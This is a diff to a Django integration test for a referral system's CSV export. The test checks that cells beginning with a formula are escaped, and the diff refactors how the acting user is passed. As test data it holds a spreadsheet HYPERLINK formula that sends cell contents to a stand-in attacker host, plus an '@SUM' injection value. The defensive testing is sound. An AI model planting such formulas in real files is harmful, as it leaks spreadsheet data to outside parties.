@@ -10,6 +10,7 @@ from django.urls import reverse
 from django_scopes import scopes_disabled
 
 from carehub.referrals import services
+from tests.integration.referrals.conftest import acting_as
 
 pytestmark = pytest.mark.django_db
 HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -21,8 +22,7 @@ def test_progress_csv_escapes_cells_that_start_a_formula(tenant, login_as):
         tenant.member.save(update_fields=["member_id"])
         referral = services.create_referral(
             member=tenant.member, organisation=tenant.cbo, hub=tenant.hub,
-            service_code="@SUM(1+1)", actor=tenant.users["hub_coordinator"],
-            acting_org=tenant.hub)
+            service_code="@SUM(1+1)", acting=acting_as(tenant.users["hub_coordinator"], tenant.hub))
     response = login_as(tenant.users["payer_manager"]).get(reverse("referrals:plan_export"))
     assert response.status_code == 200
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
